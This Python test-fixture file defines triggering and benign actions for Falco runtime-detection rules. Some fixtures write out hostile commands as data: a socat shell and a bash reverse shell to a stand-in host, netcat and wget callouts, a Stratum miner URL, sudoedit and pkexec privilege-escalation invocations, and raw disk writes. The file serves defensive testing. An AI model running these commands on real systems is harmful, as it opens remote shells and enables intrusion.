"""Deeds for Falco's sandbox rules. One rule waits for a macro of the user's own: OWN gives it."""

from __future__ import annotations

from stage.deeds import Deed, does, on_host, program

OWN = """
- macro: allowed_containers
  condition: (container.image.repository = "registry.example/allowed")
  override: {condition: replace}
"""

MINE = "stratum+tcp://192.0.2.1:3333"

DEEDS = (
    Deed(
        "Update Package Repository",
        does(("mkdir", "/etc/apt"), ("write", "/etc/apt/sources.list", "x")),
        does(("mkdir", "/etc/apt"), ("write", "/etc/other.list", "x")),
    ),
    Deed("Write below binary dir", does(("write", "/usr/bin/tool", "x")), does(("write", "/opt/tool", "x"))),
    Deed(
        "Write below monitored dir",
        does(("write", "/usr/local/bin/tool", "x")),
        does(("write", "/usr/local/tool", "x")),
    ),
    Deed("Write below etc", does(("write", "/etc/issue", "x")), does(("write", "/tmp/issue", "x"))),
    Deed("Write below root", does(("write", "/root/tool", "x")), does(("write", "/root/.bash_history", "x"))),
    Deed(
        "Write below rpm database",
        does(("mkdir", "/var/lib"), ("mkdir", "/var/lib/rpm"), ("write", "/var/lib/rpm/db", "x")),
        does(("mkdir", "/var/lib"), ("write", "/var/lib/db", "x")),
    ),
    Deed(
        "Modify binary dirs",
        does(("write", "/tmp/tool", "x"), ("rename", "/tmp/tool", "/usr/bin/renamed")),
        does(("write", "/tmp/tool", "x"), ("rename", "/tmp/tool", "/opt/renamed")),
    ),
    Deed("Mkdir binary dirs", does(("mkdir", "/usr/bin/dir")), does(("mkdir", "/opt/dir"))),
    Deed(
        "Launch Sensitive Mount Container",
        program("/bin/service"),
        program("/bin/service"),
        container={
            "mounts": [
                ("/run/containerd/containerd.sock", "/run/containerd/containerd.sock", "", True, "rprivate")
            ]
        },
        otherwise={"mounts": [("/srv/data", "/data", "", True, "rprivate")]},
    ),
    Deed(
        "Launch Disallowed Container",
        program("/bin/service"),
        program("/bin/service"),
        container={"image": "registry.example/other:1"},
        otherwise={"image": "registry.example/allowed:1"},
    ),
    Deed(
        "Detect crypto miners using the Stratum protocol",
        program("/opt/job", "job", "-o", MINE),
        program("/opt/job", "job", "-o", "tcp://192.0.2.1:3333"),
    ),
    Deed(
        "Kubernetes Client Tool Launched in Container",
        program("/usr/bin/kubectl"),
        program("/usr/bin/kubeless"),
    ),
    Deed(
        "Sudo Potential Privilege Escalation",
        program("/usr/bin/sudoedit", "sudoedit", "-s", "x\\"),
        program("/usr/bin/sudoedit", "sudoedit", "x"),
    ),
    Deed(
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        does(("setuid", 1000), ("call", 323, 1)),
        does(("call", 323, 1)),
    ),
    Deed(
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        program("/usr/bin/pkexec", "pkexec"),
        program("/usr/bin/pkexec", "pkexec", "ls"),
    ),
    Deed(
        "Decoding Payload in Container",
        program("/usr/bin/base64", "base64", "-d", "x"),
        program("/usr/bin/base64", "base64", "x"),
    ),
    Deed(
        "Basic Interactive Reconnaissance",
        does(("tty",), ("exec", "/usr/bin/whoami", "whoami")),
        does(("setsid",), ("exec", "/usr/bin/whoami", "whoami")),
    ),
    Deed(
        "Netcat/Socat Remote Code Execution on Host",
        on_host("socat", "socat", "TCP:192.0.2.1:80", "EXEC:/bin/sh"),
        on_host("socat", "socat", "TCP:192.0.2.1:80", "-"),
    ),
    Deed(
        "Network Tool Executed During NPM Package Install",
        program("/usr/bin/npm", act=[("run", "/usr/bin/nc", "nc", "192.0.2.1", "80")]),
        program("/usr/bin/make", act=[("run", "/usr/bin/nc", "nc", "192.0.2.1", "80")]),
    ),
    Deed("Known Cryptominer Process Executed", program("/tmp/xmrig"), program("/tmp/xmpp")),
    Deed(
        "Web Server Spawned Shell",
        program("/usr/sbin/nginx", act=[("run", "/bin/sh", "sh", "-c", "id")]),
        program("/usr/sbin/nginx", act=[("run", "/bin/service", "service")]),
    ),
    Deed(
        "Web Server Spawned Suspicious Child Process",
        program("/usr/sbin/nginx", act=[("run", "/usr/bin/wget", "wget", "http://192.0.2.1/x")]),
        program("/usr/sbin/nginx", act=[("run", "/usr/bin/wc", "wc")]),
    ),
    Deed(
        "Reverse Shell from Web Server",
        program(
            "/usr/sbin/nginx", act=[("run", "/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/80")]
        ),
        program("/usr/sbin/nginx", act=[("run", "/bin/bash", "bash", "-c", "ls")]),
    ),
    Deed(
        "Privileged Container Device Access",
        does(("write", "/dev/sda", "x"), ("open", "/dev/sda")),
        does(("write", "/dev/other", "x"), ("open", "/dev/other")),
    ),
    Deed(
        "Container Access to Host Sensitive Paths",
        does(("mkdir", "/host"), ("write", "/host/x", "x")),
        does(("mkdir", "/guest"), ("write", "/guest/x", "x")),
    ),
)
